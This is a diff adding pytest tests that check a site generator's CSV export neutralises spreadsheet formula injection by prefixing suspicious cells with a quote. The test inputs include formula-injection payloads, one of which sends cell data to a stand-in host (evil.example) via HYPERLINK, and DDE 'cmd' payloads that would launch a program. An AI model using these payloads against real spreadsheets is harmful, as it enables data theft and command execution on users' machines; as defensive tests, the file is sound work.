@@ -378,3 +378,28 @@ def test_two_builds_write_the_same_bytes(built_demo: Path, tmp_path: Path) -> No
     second = {path: (root / "site" / path).read_bytes() for path in files}
     assert first == second
     assert first == {path: (built_demo / "site" / path).read_bytes() for path in files}
+
+
+@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
+                                   "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(value: str) -> None:
+    from readouts.render.exports import _csv_line
+
+    cells = next(csv.reader(io.StringIO(_csv_line(["id", value, 5]).decode("utf-8"), newline="")))
+    assert cells == ["id", "'" + value, "5"]
+
+
+def test_a_title_and_an_occasion_like_formulas_reach_readouts_csv_as_text(built_demo: Path, tmp_path: Path) -> None:
+    from readouts.build import build_site
+
+    root = tmp_path / "site"
+    shutil.copytree(built_demo, root, symlinks=True)
+    path = root / "content" / "readouts" / "2019-09-25-mofa-japan-russia-foreign-ministers-meeting.md"
+    text = path.read_text(encoding="utf-8")
+    text = text.replace("title: Japan-Russia Foreign Ministers’ Meeting", "title: '=1+2'", 1)
+    text = text.replace("occasion: United Nations General Assembly", "occasion: '@SUM(A1:A9)'", 1)
+    path.write_text(text, encoding="utf-8")
+    build_site(root)
+    rows = list(csv.DictReader(io.StringIO((root / "site" / "readouts.csv").read_text(encoding="utf-8"), newline="")))
+    row = next(r for r in rows if r["id"] == path.stem)
+    assert (row["title"], row["occasion"]) == ("'=1+2", "'@SUM(A1:A9)")
